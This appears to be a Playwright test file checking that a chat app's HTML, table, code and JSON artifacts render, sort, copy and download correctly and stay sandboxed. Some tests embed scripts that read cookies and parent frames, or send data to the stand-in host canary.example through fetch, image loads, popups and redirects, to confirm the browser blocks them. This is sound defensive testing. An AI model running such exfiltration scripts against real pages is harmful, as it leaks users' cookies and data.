"""Artifacts in a browser: pages in their sandbox, tables that sort, filter and turn, the whole screen, copying."""

import asyncio
import json
from typing import Any

from playwright.async_api import Route, expect

import chatapp
from tests.site import Site

from .conftest import Open
from .visit import Visit

SPY = """<p id="said">no script</p><script>
const tell = (name, what) => {
  try { return name + ": " + what(); } catch (error) { return name + ": " + error.name; }
};
document.getElementById("said").textContent = [
  tell("cookie", () => document.cookie),
  tell("parent", () => parent.document.title),
  tell("top", () => top.location.href),
  tell("storage", () => localStorage.length),
  tell("origin", () => origin),
].join(", ");
</script>"""

_MAKE = """
import json
from django.contrib.sessions.models import Session
from django.utils import timezone
from chatapp.models import Message, Thread
owner = Session.objects.get(pk={key!r}).get_decoded()["_auth_user_id"]
thread = Thread.objects.create(owner_id=owner, assistant="guide", title="Artifacts", updated_at=timezone.now())
said = Message.objects.create(thread=thread, role="user", text="x", parts=[dict(kind="text", text="x")])
parts = json.loads(open({file!r}).read())
thread.head = Message.objects.create(thread=thread, parent=said, role="assistant", parts=parts)
for number in range({later}):
    thread.head = Message.objects.create(
        thread=thread, parent=thread.head, role="user", text="Later", parts=[dict(kind="text", text="Later")]
    )
thread.save()
print("PATH" + thread.get_absolute_url())
"""


async def make_thread(site: Site, key: str, *parts: chatapp.Part, later: int = 0) -> str:
    """Store a thread whose answer has these parts, with so many messages after it, for the person with this session
    key; its path."""
    file = site.folder / "parts.json"
    file.write_text(json.dumps([part.dump() for part in parts]))
    out = await asyncio.to_thread(site.manage, "shell", "-c", _MAKE.format(key=key, file=str(file), later=later))
    return out.partition("PATH")[2].strip()


async def test_the_script_of_a_page_runs_and_reaches_nothing_around_it(open_page: Open, site: Site, key: str) -> None:
    path = await make_thread(site, key, chatapp.HtmlArtifact(content=SPY, title="Spy", height=120))
    visit = await open_page(path)

    frame = visit.page.locator("iframe")
    await expect(frame.content_frame.locator("#said")).to_have_text(
        "cookie: SecurityError, parent: SecurityError, top: SecurityError, storage: SecurityError, origin: null"
    )
    assert await frame.evaluate("(frame) => frame.contentDocument") is None
    box = await frame.bounding_box()
    assert box is not None
    assert box["height"] == 120


async def test_the_page_in_a_frame_cannot_carry_anything_out(open_page: Open, site: Site, key: str) -> None:
    tries = """<p id="said"></p><script>
      const said = document.getElementById("said");
      const note = (what) => said.textContent += what + " ";
      document.addEventListener("securitypolicyviolation", (event) => note(event.effectiveDirective));
      new Image().src = "https://canary.example/x.png";
      fetch("https://canary.example/x").catch(() => note("fetch"));
      window.open("https://canary.example/") || note("popup");
      parent.postMessage("x", "*");
    </script>"""
    path = await make_thread(site, key, chatapp.HtmlArtifact(content=tries))
    visit = await open_page(None)
    # Chromium tells of the image and blocks it before it is sent.
    visit.expect_complaint(
        "Content Security Policy", "Blocked opening", "violates the document's", "canary.example/x.png"
    )
    left: list[str] = []
    await visit.context.route("https://canary.example/**", lambda route: left.append(route.request.url))
    await visit.go(path)

    said = visit.page.locator("iframe").content_frame.locator("#said")
    for what in ("img-src", "connect-src", "fetch", "popup"):
        await expect(said).to_contain_text(what)
    assert left == []


async def test_the_frame_cannot_be_led_elsewhere(open_page: Open, site: Site, key: str) -> None:
    away = (
        '<p id="said">here</p><script>location.href = "https://canary.example/?" + encodeURIComponent("data")</script>'
    )
    path = await make_thread(site, key, chatapp.HtmlArtifact(content=away))
    async with asyncio.timeout(10):
        visit = await open_page(None)
        visit.expect_complaint("violates the following Content Security Policy", "ERR_BLOCKED")
        blocked = visit.page.wait_for_event("console", lambda message: "canary.example" in message.text)
        _, message = await asyncio.gather(visit.go(path), blocked)

    assert "violates" in message.text
    assert [url for url in visit.requests if "canary" in url] == []


async def get_cells(visit: Visit, column: int = 0) -> list[str]:
    """What stands in a column."""
    cells: list[str] = await visit.page.locator(f".chat-grid tbody td:nth-child({column + 1})").all_inner_texts()
    return cells


async def test_a_table_sorts_filters_and_turns_its_pages(open_page: Open, site: Site, key: str) -> None:
    data: list[dict[str, Any]] = [{"Number": n, "Name": f"Name {n % 7}"} for n in range(10_000)]
    visit = await open_page(await make_thread(site, key, chatapp.TableArtifact(data=data, title="Numbers")))
    status = visit.page.locator(".chat-grid-foot").get_by_role("status")
    number = visit.page.get_by_role("columnheader", name="Number")

    await expect(status).to_have_text("1 to 100 of 10,000")
    assert (await get_cells(visit))[:3] == ["0", "1", "2"]
    await visit.button("Later rows").click()
    await expect(status).to_have_text("101 to 200 of 10,000")
    await visit.button("Earlier rows").click()
    await expect(status).to_have_text("1 to 100 of 10,000")
    await number.get_by_role("button").click()
    await expect(number).to_have_attribute("aria-sort", "ascending")
    await number.get_by_role("button").press("Enter")
    await expect(number).to_have_attribute("aria-sort", "descending")
    assert (await get_cells(visit))[:3] == ["9999", "9998", "9997"]
    await visit.page.get_by_role("searchbox", name="Filter rows").fill("name 3")
    await expect(status).to_have_text("1 to 100 of 1,429")
    assert set(await get_cells(visit, 1)) == {"Name 3"}
    await visit.page.get_by_role("searchbox", name="Filter rows").fill("nobody")
    await expect(status).to_have_text("No rows")


async def test_whoever_leaves_the_whole_screen_is_back_at_the_button(open_page: Open, site: Site, key: str) -> None:
    code = chatapp.CodeArtifact(content="print('hello')", language="python", title="hello.py")
    visit = await open_page(await make_thread(site, key, chatapp.TextPart(text="Here:"), code))
    dialog = visit.page.get_by_role("dialog", name="hello.py")
    opener = visit.button("Full screen")

    async def by_key() -> None:
        await visit.page.keyboard.press("Escape")

    async def by_button() -> None:
        await dialog.get_by_role("button", name="Close").click()

    async def beside_it() -> None:
        await visit.page.mouse.click(3, 3)

    for leave in (by_key, by_button, beside_it):
        await opener.press("Enter")
        await expect(dialog).to_contain_text("print('hello')")
        await leave()
        await expect(dialog).to_have_count(0)
        await expect(opener).to_be_focused()


async def test_a_button_that_is_pressed_before_its_script_is_here_works_once_it_is(
    open_page: Open, site: Site, key: str
) -> None:
    path = await make_thread(site, key, chatapp.CodeArtifact(content="print()", title="old.py"), later=60)
    visit = await open_page(path)
    reached, release = asyncio.Event(), asyncio.Event()

    async def hold(route: Route) -> None:
        reached.set()
        await release.wait()
        await route.continue_()

    await visit.page.route("**/artifacts*.js", hold)
    await expect(visit.page.locator(".chat-artifact")).to_have_count(0)
    dialog = visit.page.get_by_role("dialog", name="old.py")

    await visit.page.get_by_role("link", name="Show earlier messages").click()
    await asyncio.wait_for(reached.wait(), 20)
    await visit.button("Full screen").click()
    await expect(dialog).to_have_count(0)
    release.set()

    await expect(dialog).to_contain_text("print()")


async def test_an_artifact_is_copied_as_it_was_made(open_page: Open, site: Site, key: str) -> None:
    part = chatapp.JsonArtifact(data={"a": [1, "<b>"]}, title="data.json")
    visit = await open_page(await make_thread(site, key, part), permissions=["clipboard-read", "clipboard-write"])
    copy = visit.page.locator(".chat-artifact").get_by_role("button", name="Copy")

    await copy.click()

    await expect(copy).to_have_class("chat-icon-button chat-copied")
    assert await visit.page.evaluate("navigator.clipboard.readText()") == part.source


async def test_an_artifact_folds_and_downloads(open_page: Open, site: Site, key: str) -> None:
    part = chatapp.TableArtifact(data=[{"a": "=1"}], title="Sums")
    visit = await open_page(await make_thread(site, key, part))
    cell = visit.page.get_by_role("cell", name="=1")

    async with visit.page.expect_download() as download:
        await visit.page.get_by_role("link", name="Download", exact=True).click()
    file = await download.value
    assert file.suggested_filename == "sums.csv"
    await expect(cell).to_be_visible()
    await visit.page.locator(".chat-artifact > summary").click()
    await expect(cell).to_be_hidden()
